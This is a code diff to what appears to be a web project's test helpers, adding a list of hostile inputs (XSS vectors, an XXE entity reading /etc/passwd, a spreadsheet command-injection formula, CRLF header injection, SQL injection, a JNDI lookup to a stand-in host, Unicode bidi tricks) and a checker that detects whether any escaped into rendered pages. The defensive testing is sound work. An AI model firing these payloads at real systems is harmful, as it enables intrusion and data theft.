@@ -1,8 +1,13 @@
-"""Texts that want out of their place, and a reader that sees whether one got out."""
+"""Texts that want out of their place, and a reader that sees whether one got out.
 
-from collections.abc import Iterator
+A hundred in `make check`, seven hundred in `make soak`.
+"""
+
+import itertools
+import os
+from collections.abc import Iterator, Sequence
 from html.parser import HTMLParser
-from typing import Any
+from typing import Any, Final
 from urllib.parse import urlsplit
 
 from steward.web.words import visible
@@ -25,6 +30,60 @@ TEXTS = (
     "tag\U000e0041\U000e0042 variation\ufe0f",
     "x" * 5000,
 )
+MANY: Final = 700 if os.environ.get("STEWARD_SOAK") else 100  # noqa: TID251 -- as in conftest
+MORE: Final = (
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "</content></entry></feed>",
+    "]]></description>",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r\nSet-Cookie: a=b",
+    "%0d%0aX-Header: 1",
+    "%252e%252e%252f",
+    "\x1b]0;title\x07\x1b[2J",
+    "\x9b31m",
+    "\x00",
+    "\ufffe\uffff",
+    "\u0430nna",  # Cyrillic a
+    "\u202ba\u202a\u202db",
+    "\u2067\u2068\u2069",
+    "\u200e\u200f\u061c",
+    "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
+    "\ud83d",
+    "\u3164\u115f\ue000\u034f\ufe0f",
+    "${jndi:ldap://elsewhere.example/a}",
+    "' OR 1=1 --",
+    '"; DROP TABLE project; --',
+    "[x](javascript:alert(1))",
+    "vbscript:msgbox(1)",
+    "//elsewhere.example/",
+    "https://elsewhere.example/\u202e?<>&\"'",
+    "\\u003cscript\\u003e",
+    "é" * 3000,
+    "",
+    " ",
+)
+AROUND: Final = ("{}", '">{}', "{}</p>", "'{}'", "a{}b", "{0}{0}", "\u200b{}", "<b>{}")
+
+
+def corpus(many: int) -> tuple[str, ...]:
+    """Return so many different texts, the plain ones first."""
+    base = (*TEXTS, *MORE)
+    every = (around.replace("{}", text).replace("{0}", text) for around in AROUND for text in base)
+    wrapped: Iterator[str] = itertools.chain(every, _pairs(base))
+    return tuple(itertools.islice(dict.fromkeys(wrapped), many))
+
+
+def _pairs(base: Sequence[str]) -> Iterator[str]:
+    return (a[:200] + b[:200] for a in base for b in base if a != b)
+
+
 SCHEMES = frozenset({"", "http", "https", "mailto"})
 _ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href"})
 
@@ -78,3 +137,23 @@ def strings(value: Any) -> Iterator[str]:  # noqa: ANN401 -- any tree of plain v
     elif isinstance(value, list):
         for each in value:
             yield from strings(each)
+
+
+ACTIVE: Final = frozenset(
+    {"iframe", "img", "math", "style", "b", "object", "embed", "base", "comment"}
+)
+
+
+def escaped(page: str) -> list[str]:
+    """Return what of a page no text of a stranger may bring about, in words."""
+    outline = Outline(page)
+    tags = {element[0] for element in outline.elements}
+    handlers = {name for each in outline.elements for name in each[1:] if name[:2] == "on"}
+    inline = [each for each in outline.elements if each[0] == "script" and "src" not in each]
+    return [
+        *(str(each) for each in inline),
+        *(f"<{tag}>" for tag in sorted(tags & ACTIVE)),
+        *sorted(handlers),
+        *sorted(foreign_schemes(outline)),
+        *map(ascii, sorted(unseen(page))),
+    ]
